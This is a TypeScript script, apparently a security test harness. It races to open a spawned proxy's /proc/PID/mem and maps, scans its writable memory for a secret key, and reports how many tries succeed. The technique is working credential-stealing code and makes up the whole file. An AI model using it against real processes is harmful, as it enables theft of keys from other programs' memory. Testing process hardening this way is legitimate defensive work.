// An attacker of the same user: from a proxy's spawn on it opens /proc/PID/mem and maps in a loop, keeps what it could
// open, and looks for the key through it once the proxy serves. Prints in how many tries it found the key.
// Usage: bun racer.ts TRIES KEY SERVER_INFO_FILE ENVIRONMENT_AS_JSON BINARY [ARG…]

import { spawn } from "node:child_process";
import { closeSync, existsSync, openSync, readSync, rmSync } from "node:fs";

const [tries, key, info, environment, binary, ...args] = process.argv.slice(2) as [
  string,
  string,
  string,
  string,
  string,
];

type Handles = { mem: number; maps: number };

const needle = Buffer.from(key, "latin1");
/** One for all: to make a new one for each of hundreds of handles takes as long as the start. */
const chunk = Buffer.alloc(1 << 20);

let stolen = 0;
for (let round = 0; round < Number(tries); round++) if (await race()) stolen++;
console.log(JSON.stringify({ stolen }));
process.exit(0);

async function race(): Promise<boolean> {
  rmSync(info, { force: true });
  const env = JSON.parse(environment) as NodeJS.ProcessEnv;
  const child = spawn(binary, ["--server-info", info, ...args], { env, stdio: ["pipe", "ignore", "ignore"] });
  child.stdin!.end(`${key}\n`);
  const handles: Handles[] = [];
  // Each opened pair shows the memory of the moment; later ones may show that of the second start.
  const end = performance.now() + 2_000;
  while (!existsSync(info) && child.exitCode === null && performance.now() < end) {
    for (let attempt = 0; attempt < 50; attempt++) tryToOpen(child.pid!, handles);
    await new Promise((resolve) => setImmediate(resolve));
  }
  const found = handles.some(holdsKey);
  for (const { mem, maps } of handles) {
    closeSync(mem);
    closeSync(maps);
  }
  child.kill("SIGKILL");
  await new Promise((resolve) => child.once("exit", resolve));
  return found;
}

function tryToOpen(pid: number, handles: Handles[]): void {
  try {
    const mem = openSync(`/proc/${pid}/mem`, "r");
    const maps = openSync(`/proc/${pid}/maps`, "r");
    handles.push({ mem, maps });
    if (handles.length > 400) {
      const old = handles.shift()!;
      closeSync(old.mem);
      closeSync(old.maps);
    }
  } catch {
    // Denied, or the process does not exist yet.
  }
}

/** Whether the key is in the writable memory that these handles show. */
function holdsKey({ mem, maps }: Handles): boolean {
  const mappings = readAll(maps);
  // Opened before the child's execve: this is the racer's own memory, which has the key, too.
  if (mappings.includes(process.execPath)) return false;
  for (const line of mappings.split("\n")) {
    const match = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
    if (match === null) continue;
    const start = Number.parseInt(match[1]!, 16);
    // Most of a large mapping is reserved and empty; a heap begins in its first 64 MiB.
    const stop = Math.min(Number.parseInt(match[2]!, 16), start + (64 << 20));
    for (let at = start; at < stop; at += chunk.length - needle.length) {
      const got = read(mem, chunk, at, Math.min(chunk.length, stop - at));
      if (got <= 0) break;
      if (chunk.subarray(0, got).includes(needle)) return true;
    }
  }
  return false;
}

function readAll(fd: number): string {
  let text = "";
  for (let got = read(fd, chunk, null, chunk.length); got > 0; got = read(fd, chunk, null, chunk.length)) {
    text += chunk.toString("latin1", 0, got);
  }
  return text;
}

function read(fd: number, into: Buffer, position: number | null, length: number): number {
  try {
    return readSync(fd, into, 0, length, position);
  } catch {
    return 0;
  }
}
